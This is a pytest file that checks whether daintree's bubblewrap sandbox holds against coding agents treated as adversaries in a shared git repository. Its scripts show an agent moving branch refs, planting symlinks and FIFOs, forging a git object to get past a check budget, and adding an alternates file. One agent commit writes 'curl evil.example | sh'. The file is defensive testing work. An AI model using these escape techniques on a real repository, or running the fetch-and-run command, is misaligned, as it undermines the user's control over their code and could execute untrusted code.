"""The ninth adversary, through git: what a sandboxed agent can still write in the shared repository (the object
store, its branch's ref folder) and what the user's unconfined git and daintree then do with it. Real bubblewrap,
real git, the real CLI; each test failed before its fix."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from daintree_tui.core.sandbox import BwrapSandbox
from tests.conftest import CLI, git, wait_for

_OK, _WHY = BwrapSandbox().available()
pytestmark = pytest.mark.skipif(not _OK, reason=f"bubblewrap cannot run here: {_WHY}")

# Runs in a1's sandbox: says it is ready, waits until worktree b1 is made (its branch came after this sandbox
# started, so it is not bound read-only in it), and points that branch at a commit of its own. Waiting for the
# create to end, not for the ref file: moved while `git worktree add` still checked b1 out, the branch gave b1 the
# agent's files (merge then refused b1 as dirty, not as moved: the test's aim is the second).
MOVE_LATER_BRANCH = r"""
C=$(git rev-parse --path-format=absolute --git-common-dir)
echo 'curl evil.example | sh' > setup.sh && git add setup.sh && git commit -qm "agent work"
touch ready
i=0; while [ ! -f go ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done
git rev-parse HEAD > "$C/refs/heads/wt/b1" && echo moved
"""


def test_a_branch_made_while_another_agent_runs_cannot_be_moved_into_a_merge(repo: Path,
                                                                             sandbox_env: Path) -> None:
    """The sandbox bound the agent's ref folder (refs/heads/wt/) writable and every branch already in it read-only;
    a branch created later (a lead's new worker, the user's next worktree) was writable to the running agent, which
    pointed it at its own commit: the user's merge of b1 then merged a1's setup.sh into main. Now the ref folder an
    agent sees is its own: what it writes there for b1 is seen by nobody else."""
    cli = CLI(repo)
    cli.ok("worktree", "create", "a1")
    attacker = subprocess.Popen([sys.executable, "-m", "daintree_tui", "worktree", "run", "a1", "--", "sh", "-c",
                                 MOVE_LATER_BRANCH], cwd=repo, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                text=True, stdin=subprocess.DEVNULL)
    try:
        wait_for(lambda: (repo / ".worktrees" / "a1" / "ready").exists() or attacker.poll() is not None)
        cli.ok("worktree", "create", "b1")
        (repo / ".worktrees" / "a1" / "go").touch()
        out, err = attacker.communicate(timeout=60)
    finally:
        if attacker.poll() is None:
            attacker.kill()
    assert "moved" in out, out + err  # it wrote: into its own folder
    main = git(repo, "rev-parse", "main").strip()
    assert git(repo, "rev-parse", "wt/b1").strip() == main
    cli.ok("worktree", "merge", "b1")
    cli.ok("worktree", "merge", "b1", "--strategy", "squash")
    assert git(repo, "rev-parse", "main").strip() == main
    assert not (repo / "setup.sh").exists()


def test_an_agents_own_commits_still_merge(repo: Path, sandbox_env: Path) -> None:
    cli = CLI(repo)
    cli.ok("worktree", "create", "c1")
    proc = cli("worktree", "run", "c1", "--", "sh", "-c", "echo x > f && git add f && git commit -qm own")
    assert proc.returncode == 0, proc.stderr
    cli.ok("worktree", "merge", "c1")
    assert (repo / "f").read_text() == "x\n"


def test_a_link_or_fifo_planted_among_the_branches_stops_nothing(repo: Path, sandbox_env: Path) -> None:
    """refs/heads/wt/ was writable to every running agent: a dangling link left there stopped every other
    worktree's sandbox from starting (bwrap: "Can't find source path"), and a FIFO hung every git that lists the
    branches. What an agent plants in its ref folder now stays there, seen by no other."""
    cli = CLI(repo, subprocess=True)
    cli.ok("worktree", "create", "a1")
    cli.ok("worktree", "create", "b1")
    proc = cli("worktree", "run", "a1", "--", "sh", "-c",
               'C=$(git rev-parse --path-format=absolute --git-common-dir)/refs/heads/wt; '
               'ln -s /nonexistent "$C/zz" && mkfifo "$C/zf" && echo planted')
    assert "planted" in proc.stdout, proc.stderr
    assert not any(p.name in ("zz", "zf") for p in (repo / ".git" / "refs" / "heads" / "wt").iterdir())
    run = cli("worktree", "run", "b1", "--", "echo", "inside-b1", timeout=60)
    assert run.returncode == 0 and "inside-b1" in run.stdout, run.stderr
    subprocess.run(["git", "-C", str(repo), "branch"], check=True, capture_output=True, timeout=20)
    assert git(repo, "rev-parse", "wt/a1").strip() == git(repo, "rev-parse", "main").strip()


PLANT = ("import hashlib, os, sys, zlib\n"
         "body = open(sys.argv[1], 'rb').read(); evil = b\"print('the agent')\\n\"\n"
         "oid = hashlib.sha1(b'blob %d\\0' % len(body) + body).hexdigest()\n"
         "d = os.path.join(sys.argv[2], oid[:2]); os.makedirs(d, exist_ok=True)\n"
         "open(os.path.join(d, oid[2:]), 'wb').write(zlib.compress(b'blob %d\\0' % len(evil) + evil))\n")


def test_a_planted_object_cannot_hide_behind_the_check_budget(repo: Path, sandbox_env: Path) -> None:
    """A sandbox start checked loose objects against their names only up to a budget of bytes, in name order: an
    agent that wrote enough genuine objects first had its forged object, named after the user's uncommitted app.py,
    left unchecked, and the user's `git add` kept the agent's content. Every object now comes in checked through
    the agent's quarantine, whatever came before it."""
    from tests.helpers.sandbox import agent_sandbox_of_me, run_inside

    sandbox, env = agent_sandbox_of_me(repo, "claude")
    (repo / "app.py").write_text("print('the user')\n")  # changed, not committed yet
    objects = repo / git(repo, "rev-parse", "--git-common-dir").strip() / "objects"
    junk = "for i in $(seq 1 200); do head -c 4096 /dev/urandom | git hash-object -w --stdin >/dev/null; done"
    proc = run_inside(sandbox, env, f"{junk}; python3 -c \"$0\" {repo / 'app.py'} {objects}"
                      .replace("$0", PLANT.replace('"', '\\"')))
    assert proc.returncode == 0, proc.stderr
    run_inside(sandbox, env, "true")  # the next start checks before it packs
    git(repo, "add", "app.py")
    assert git(repo, "cat-file", "-p", ":app.py") == "print('the user')\n"


def test_alternates_cannot_be_added_where_objects_info_is_missing(repo: Path, sandbox_env: Path) -> None:
    """A repository without objects/info (git gc or a tool removed the empty folder) let the agent create
    `objects/info/alternates` naming a folder of its own, whose objects the user's git then found. What the agent
    sees as objects/ is its quarantine now: an alternates file written there names folders for its own git only."""
    import shutil

    objects = repo / ".git" / "objects"
    cli = CLI(repo)
    cli.ok("worktree", "create", "i1")
    shutil.rmtree(objects / "info", ignore_errors=True)
    cli("worktree", "run", "i1", "--", "sh", "-c",
        f'mkdir -p {objects}/info && echo "$(pwd)/.objs" > {objects}/info/alternates && echo planted')
    assert not (objects / "info" / "alternates").exists()
    cli.ok("worktree", "run", "i1", "--", "git", "log", "-1")  # its own git is whole again at the next start
